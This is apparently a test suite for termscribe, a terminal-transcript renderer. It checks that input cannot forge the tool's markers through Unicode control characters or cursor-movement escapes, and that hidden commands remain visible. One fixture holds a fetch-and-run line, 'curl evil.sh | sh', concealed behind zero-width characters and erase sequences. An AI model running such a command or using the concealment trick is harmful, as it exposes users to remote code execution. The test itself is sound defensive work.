"""Markers (SECURITY.md, "markers").

A marker termscribe makes (``<U+202E>``, ``[termscribe: 3 characters
omitted]``, the alternate screen's frame lines) is the only text of a
transcript that starts with ``<U+`` or ``[termscribe:``: input that spells
one, directly or put together on screen by cursor moves, has its first
character escaped (``<U+003C>``, ``<U+005B>``). A marker of a code point
takes the cells the terminal gives it (none for U+200B or U+202E) and
decorates the cell it follows, so edits land where the terminal's do and
none can reach inside a marker.
"""

from __future__ import annotations

import re

import pytest
from chunking import assert_chunking_invariant
from hypothesis import given, settings
from hypothesis import strategies as st
from textcheck import assert_safe_text

from termscribe import Transcript, render_ansi, render_html, render_text
from termscribe._rows import MARKERS, MAX_LINE_CELLS
from termscribe._unicode import JOINER, MARKED, char_class

_MODES: list[dict[str, object]] = [
    {},
    {"columns": 80},
    {"mode": "strip"},
    {"mode": "screen", "columns": 80, "rows": 6},
]


@pytest.mark.parametrize("options", _MODES)
@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("<U+202E>", "<U+003C>U+202E>"),
        ("a\u202e<U+202E>", "a<U+202E><U+003C>U+202E>"),
        ("[termscribe: 12 earlier lines omitted]", "<U+005B>termscribe: 12 earlier lines omitted]"),
        (
            "[termscribe: alternate screen, last frame]",
            "<U+005B>termscribe: alternate screen, last frame]",
        ),
        ("<U+003C>", "<U+003C>U+003C>"),  # an escape spelled out is escaped too
        ("<u+202e> <U 202E> [termscribe ok]", "<u+202e> <U 202E> [termscribe ok]"),
        ("\ue000U+202E> \ue001termscribe: x]", "<U+E000>U+202E> <U+E001>termscribe: x]"),
    ],
)
def test_input_that_spells_a_marker_is_escaped(
    data: str, expected: str, options: dict[str, object]
) -> None:
    assert assert_chunking_invariant(data.encode(), **options) == expected


@pytest.mark.parametrize("options", [{}, {"columns": 80}, {"mode": "screen", "columns": 80}])
def test_a_marker_put_together_by_cursor_moves_is_escaped(options: dict[str, object]) -> None:
    # "+202E>" first, then "<U" written in front of it: the screen reads
    # "<U+202E>" though no byte sequence spells it.
    data = b"  +202E>\r<U"
    assert assert_chunking_invariant(data, **options) == "<U+003C>U+202E>"
    # The same with a bracket, by CUB.
    data = b"termscribe: x]\x1b[15D\x1b[1P[termscribe"
    shown = assert_chunking_invariant(data, **options)
    assert "[termscribe:" not in shown


def test_real_markers_stay_real() -> None:
    long_line = b"x" * (MAX_LINE_CELLS + 5)
    shown = render_text(long_line + b"\n<U+202E>\xe2\x80\xae")
    lines = shown.split("\n")
    assert lines[0].endswith(" [termscribe: 5 characters omitted]")
    assert lines[1] == "<U+003C>U+202E><U+202E>"
    assert [m.group() for m in MARKERS.finditer(shown)] == [
        "[termscribe: 5 characters omitted]",
        "<U+003C>",
        "<U+202E>",
    ]
    transcript = Transcript(max_lines=2, rows=1)
    transcript.feed(b"a\nb\nc\nd\n[termscribe: 9 earlier lines omitted]\n")
    transcript.finish()
    assert transcript.text().split("\n") == [
        "[termscribe: 3 earlier lines omitted]",
        "d",
        "<U+005B>termscribe: 9 earlier lines omitted]",
        "",
    ]
    frame = b"$ vim\n\x1b[?1049h[termscribe: end of alternate screen]"
    assert render_text(frame, alt_screen="snapshot").split("\n") == [
        "$ vim",
        "",
        "[termscribe: alternate screen, last frame]",
        "",
        "<U+005B>termscribe: end of alternate screen]",
        "[termscribe: end of alternate screen]",
    ]


# Whole, byte by byte, in random pieces, and each batch replayed event by
# event: all give the same.
def _shown(data: str, **options: object) -> str:
    whole = assert_chunking_invariant(data.encode(), Transcript.text, **options)
    one = assert_chunking_invariant(data.encode(), Transcript.text, _one_by_one=True, **options)
    assert one == whole, "one by one"
    return whole


_LINES = {"columns": 80}
_STRIP = {"mode": "strip"}
_SCREEN_80 = {"mode": "screen", "columns": 80, "rows": 6}


@pytest.mark.parametrize(
    ("edit", "lines", "strip"),
    [
        # U+202E takes no cell: it decorates the b, and the edits land on
        # the cells the terminal gives the text around it.
        ("\x1b[2D0", "ab<U+202E>0d", "ab<U+202E>cd\n0"),
        ("\x1b[3D0", "a0cd", "ab<U+202E>cd\n0"),  # b overwritten: its marker goes
        ("\x1b[3D\x1b[P", "acd", "ab<U+202E>cd"),  # DCH
        ("\x1b[3D\x1b[@", "a b<U+202E>cd", "ab<U+202E>cd"),  # ICH: it moves with b
        ("\x1b[3D\x1b[X", "a cd", "ab<U+202E>cd"),  # ECH
        ("\x1b[2D\x1b[K", "ab<U+202E>", "ab<U+202E>cd"),  # EL after b keeps it
        ("\x1b[4D\x1b[1K", " b<U+202E>cd", "ab<U+202E>cd"),
        ("\x1b[4D\x1b[K", "", "ab<U+202E>cd"),
    ],
)
@pytest.mark.parametrize("options", [{}, _LINES, _SCREEN_80])
def test_a_marker_takes_no_cell_and_goes_with_its_cell(
    edit: str, lines: str, strip: str, options: dict[str, object]
) -> None:
    assert _shown(f"ab\u202ecd{edit}", **options) == lines
    assert _shown(f"ab\u202ecd{edit}", **_STRIP) == strip


@pytest.mark.parametrize("options", [{}, _LINES, _STRIP, _SCREEN_80])
@pytest.mark.parametrize(
    ("data", "shown"),
    [
        # At column 0 it precedes cell 0: kept when a character is printed
        # there, gone when cell 0 is erased or deleted.
        ("\u202eabc", "<U+202E>abc"),
        ("abc\r\u202exyz", "<U+202E>xyz"),
        ("\u202eabc\r\x1b[@", "<U+202E> abc"),
        ("\u202eabc\r\x1b[P", "bc"),
        ("\u202eabc\r\x1b[X", " bc"),
        ("\u202eabc\r\x1b[K", ""),
        ("\u202e\u202d", "<U+202E><U+202D>"),
    ],
)
def test_a_marker_at_column_0_precedes_cell_0(
    data: str, shown: str, options: dict[str, object]
) -> None:
    if options.get("mode") == "strip":  # nothing is ever erased there
        shown = data.replace("\u202e", "<U+202E>").replace("\u202d", "<U+202D>")
        shown = shown.replace("\r\x1b[@", "").replace("\r\x1b[P", "").replace("\r\x1b[X", "")
        shown = shown.replace("\r\x1b[K", "").replace("\r", "\n")
    assert _shown(data, **options) == shown


# The findings: a marker forged in a wrapped row (lines mode with a width),
# one forged in the screen mode, and a command hidden by a marker's cells.
_FORGED_IN_A_WRAPPED_ROW = "x" * 75 + "\u200b\x1b[3D2E"
_FORGED_ON_SCREEN = "\u4e2d\ue000\x1b[5D202E"
_HIDDEN_COMMAND = "\u200b" * 10 + "curl evil.sh | sh\x1b[40G\x1b[K\n"


@pytest.mark.parametrize(
    ("options", "shown"),
    [
        (_LINES, "x" * 72 + "2Ex<U+200B>"),
        ({"columns": 80, "rows": 3, "mode": "screen"}, "x" * 72 + "2Ex<U+200B>"),
        (_STRIP, "x" * 75 + "<U+200B>\n2E"),
    ],
)
def test_no_marker_is_forged_in_a_wrapped_row(options: dict[str, object], shown: str) -> None:
    assert _shown(_FORGED_IN_A_WRAPPED_ROW, **options) == shown
    html = render_html(_FORGED_IN_A_WRAPPED_ROW.encode(), **options)  # type: ignore[arg-type]
    assert "U+202E" not in html


@pytest.mark.parametrize(
    ("options", "shown"),
    [
        ({}, "202E"),
        (_LINES, "202E"),
        ({"mode": "screen"}, "202E"),
        (_STRIP, "\u4e2d<U+E000>\n202E"),
    ],
)
def test_no_marker_is_forged_on_the_screen(options: dict[str, object], shown: str) -> None:
    # U+E000 takes the one cell wcwidth gives it, column 2; CUB 5 from
    # column 3 goes to column 0 and "202E" overwrites 中 and it, as on the
    # terminal.
    assert _shown(_FORGED_ON_SCREEN, **options) == shown
    html = render_html(_FORGED_ON_SCREEN.encode(), **options)  # type: ignore[arg-type]
    assert "U+202E" not in html


@pytest.mark.parametrize("options", [{}, _LINES, _SCREEN_80, _STRIP])
def test_markers_hide_no_command(options: dict[str, object]) -> None:
    # xterm gives U+200B no cell: CHA 40 lands after the command, and EL
    # there erases nothing.
    shown = _shown(_HIDDEN_COMMAND, **options)
    assert shown.rstrip("\n") == "<U+200B>" * 10 + "curl evil.sh | sh"


@pytest.mark.parametrize("options", [{"columns": 8}, {"mode": "screen", "columns": 8}])
def test_the_last_frame_of_the_alternate_screen_shows_real_markers(
    options: dict[str, object],
) -> None:
    data = "\x1b[?1049hab\u202ecd\u200b\ue123<U+202E>"
    frame = "ab<U+202E>cd<U+200B><U+E123><U+003C>U+\n202E>"  # 8 columns
    shown = _shown(data, alt_screen="snapshot", **options)
    assert frame in shown
    assert_safe_text(shown)


@pytest.mark.parametrize("options", [{"columns": 5}, {"mode": "screen", "columns": 5}])
def test_a_wide_marker_pushed_past_the_margin_is_blanked_as_a_wide_character(
    options: dict[str, object],
) -> None:
    # ICH pushes the right half of U+115F (two cells) out: both halves go,
    # as for a wide character (xterm).
    assert _shown("abc\u115f\r\x1b[@", **options) == " abc"
    assert _shown("abc\u115f\r\x1b[@", **options) == _shown("abc\u4e00\r\x1b[@", **options)


@pytest.mark.parametrize(
    ("options", "shown"),
    [
        ({"columns": 4}, "<U+202A>E"),
        ({"mode": "screen", "columns": 4, "rows": 2}, "<U+202A>E"),
        (_STRIP, "<U+202A>E"),
    ],
)
def test_a_marker_and_a_backspace_at_four_columns(options: dict[str, object], shown: str) -> None:
    assert _shown("\u202a\bE", **options) == shown


# After a wrapped row: BS, CUB, CR, CUU, RI, SU and DECRC, each followed by
# "2E", must not complete a marker in the row above or below.
_AFTER_WRAP = ["\b", "\x1b[D", "\x1b[3D", "\r", "\x1b[A", "\x1bM", "\x1b[S", "\x1b8"]
_WRAPPED = ["xxx\u202eyz", "xxxx\u200by", "xx\ue123\u115fy", "<U+202E\u200b>"]


@pytest.mark.parametrize(
    "options",
    [{"columns": 4}, {"mode": "screen", "columns": 4, "rows": 3}, {"mode": "strip", "columns": 4}],
)
@pytest.mark.parametrize("edit", _AFTER_WRAP)
@pytest.mark.parametrize("wrapped", _WRAPPED)
def test_edits_after_a_wrapped_marker_forge_none(
    wrapped: str, edit: str, options: dict[str, object]
) -> None:
    data = f"\x1b7{wrapped}{edit}2E"
    shown = _shown(data, **options)
    found = [m.group() for m in MARKERS.finditer(shown)]
    assert sorted(found) == sorted(_real_markers(shown, data)), shown
    assert "<U+2E" not in shown and "U+202E>2" not in shown


def _real_markers(shown: str, data: str) -> list[str]:
    """The markers of ``shown`` that the input printed (marked code points
    and escapes of what it typed), each at most as often."""
    printed = [f"<U+{ord(ch):04X}>" for ch in data if char_class(ch) in (MARKED, JOINER)]
    printed += ["<U+003C>"] * data.count("<") + ["<U+005B>"] * data.count("[")
    out = []
    for found in MARKERS.findall(shown):
        if found in printed:
            printed.remove(found)
            out.append(found)
    return out


_PIECES = st.sampled_from(
    ["<", "U", "+", "202E", "0", ">", "[", "termscribe:", " ", "\u202e", "\u200b", "\r", "\n",
     "\x1b[2D", "\x1b[1C", "\x1b[P", "\x1b[@", "\x1b[X", "\x1b[K", "\x1b['}", "\x1b['~",
     "\x08", "x", "\u0301", "\u4e00", "\U000e006e", "\x1b[?7l", "x" * 74]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(_PIECES, max_size=30), st.sampled_from(range(len(_MODES))))
def test_every_marker_shown_is_real(pieces: list[str], mode: int) -> None:
    data = "".join(pieces)
    options = _MODES[mode]
    for render in (render_text, render_ansi):
        shown = render(data.encode(), **options)  # type: ignore[arg-type]
        found = [m.group() for m in MARKERS.finditer(shown)]
        # No omission marker can be due on input this short, and a marker of
        # a code point is one the input holds: U+202E, U+200B, U+E006E, or
        # an escape.
        assert not [m for m in found if m.startswith("[")]
        assert set(found) <= {"<U+202E>", "<U+200B>", "<U+E006E>", "<U+003C>", "<U+005B>"}
        assert found.count("<U+202E>") <= data.count("\u202e")
        assert found.count("<U+200B>") <= data.count("\u200b")
        assert found.count("<U+E006E>") <= data.count("\U000e006e")
        assert found.count("<U+005B>") <= data.count("[")
        assert found.count("<U+003C>") <= data.count("<")


@pytest.mark.parametrize("options", _MODES)
def test_html_shows_real_markers_as_elements_of_their_own(options: dict[str, object]) -> None:
    data = "a\u202eb <U+202E> \x1b[31mred\u200b\x1b[m [termscribe: x]".encode()
    html = assert_chunking_invariant(data, Transcript.html, **options)
    assert html.count('class="ts-marker') == 4, html
    assert '<span class="ts-marker">&lt;U+202E&gt;</span>b' in html
    assert '<span class="ts-marker">&lt;U+003C&gt;</span>U+202E&gt;' in html
    assert '<span class="ts-marker ts-fg1">&lt;U+200B&gt;</span>' in html
    assert '<span class="ts-marker">&lt;U+005B&gt;</span>termscribe: x]' in html
    omitted = render_html(b"x" * (MAX_LINE_CELLS + 3))
    assert omitted.endswith(
        ' <span class="ts-marker">[termscribe: 3 characters omitted]</span></pre>'
    )


# -- every marker shown is real, in the cells the terminal gives it ----------

#: A distinct character of the same width for each marked code point of
#: one or two cells, and the zero-width ones (left out).
_STAND_INS = {"\ue000": "\u00a4", "\ue123": "\u00a7", "\U000f0000": "\u00b6", "\u115f": "\u3007"}
_ZERO_WIDTH = ["\u200b", "\u202e", "\u2066", "\U000e0041", "\ufeff"]
_MARKER_PIECES = st.sampled_from(
    [*_STAND_INS, *_ZERO_WIDTH, "<U+202E>", "<U+", "202E>", "<", "[termscribe: x]",
     "ab", "X", "x" * 7, "\u4e2d", " ", "\r", "\n", "\b", "\x1b[31m", "\x1b[m",
     "\x1b[D", "\x1b[3D", "\x1b[C", "\x1b[2C", "\x1b[A", "\x1b[B", "\x1bM", "\x1bD",
     "\x1b[2;3H", "\x1b[H", "\x1b[5G", "\x1b[K", "\x1b[1K", "\x1b[2K", "\x1b[J", "\x1b[1J",
     "\x1b[2X", "\x1b[P", "\x1b[2P", "\x1b[@", "\x1b[2@", "\x1b[L", "\x1b[M", "\x1b[S",
     "\x1b[T", "\x1b7", "\x1b8", "\x1b[?7l", "\x1b[?7h", "\x1b[4h", "\x1b[4l",
     "\x1b[?1049h", "\x1b[?1049l"]
)  # fmt: skip
_PROPERTY_MODES: list[dict[str, object]] = [
    {"rows": 4},
    {"columns": 8, "rows": 4},
    {"mode": "screen", "columns": 8, "rows": 4},
    {"mode": "strip"},
    {"rows": 4, "alt_screen": "snapshot"},
]


def _as_printed(match: re.Match[str]) -> str:
    """A marker as the stand-in of its code point (none for a zero-width
    one), an escape as the character it escapes."""
    cp = int(match.group()[3:-1], 16)
    if cp in (0x3C, 0x5B):
        return chr(cp)
    return _STAND_INS.get(chr(cp), "")


@settings(max_examples=2000, deadline=None)
@given(st.lists(_MARKER_PIECES, max_size=40), st.sampled_from(range(len(_PROPERTY_MODES))))
def test_markers_are_real_and_take_the_cells_of_their_code_point(
    pieces: list[str], mode: int
) -> None:
    data = "".join(pieces)
    options = _PROPERTY_MODES[mode]
    shown = render_text(data.encode(), **options)  # type: ignore[arg-type]
    # Every marker is a code point the input printed (or an escape of what
    # it typed), each at most as often.
    # (The markers termscribe writes itself, omissions and the alternate
    # screen's frame, start with "[termscribe:", which input cannot spell.)
    found = [m.group() for m in MARKERS.finditer(shown) if m.group().startswith("<")]
    assert sorted(found) == sorted(_real_markers(shown, data)), shown
    # And at that cell: the same stream with each marked code point of one
    # or two cells printed as a stand-in of that width, and each zero-width
    # one left out, shows the same, each marker read as what it stands for.
    stand_ins = data
    for ch, stand_in in _STAND_INS.items():
        stand_ins = stand_ins.replace(ch, stand_in)
    for ch in _ZERO_WIDTH:
        stand_ins = stand_ins.replace(ch, "")
    expected = render_text(stand_ins.encode(), **options)  # type: ignore[arg-type]
    if options.get("mode") == "strip" or "alt_screen" in options:
        # The audit view: every character in the order printed. A
        # zero-width marker printed after a line break starts a line there,
        # as any printed character does, where the stand-ins have none; and
        # a frame's row that holds only one is not a blank row at its end.
        read, read_expected = _read(shown).split("\n"), _read(expected).split("\n")
        assert [row for row in read if row] == [row for row in read_expected if row]
    elif options.get("columns") and options.get("mode") != "screen":
        # Wrapped rows joined: a cell a zero-width marker made (on a blank,
        # as a combining mark makes one) can be a space in a joined line,
        # where a row the stand-ins left shorter is not; every character
        # still lands where it lands without markers.
        assert _read(shown).replace(" ", "") == _read(expected).replace(" ", "")
    else:
        assert _read(shown) == _read(expected)


def _read(shown: str) -> str:
    """``shown`` with each marker read as what it stands for; blanks and
    rows that held only zero-width markers (so hold nothing now) trimmed."""
    rows = _CODE_POINT_MARKER.sub(_as_printed, shown).split("\n")
    return "\n".join(row.rstrip(" ") for row in rows).rstrip("\n")


_CODE_POINT_MARKER = re.compile(r"<U\+[0-9A-F]{4,6}>")
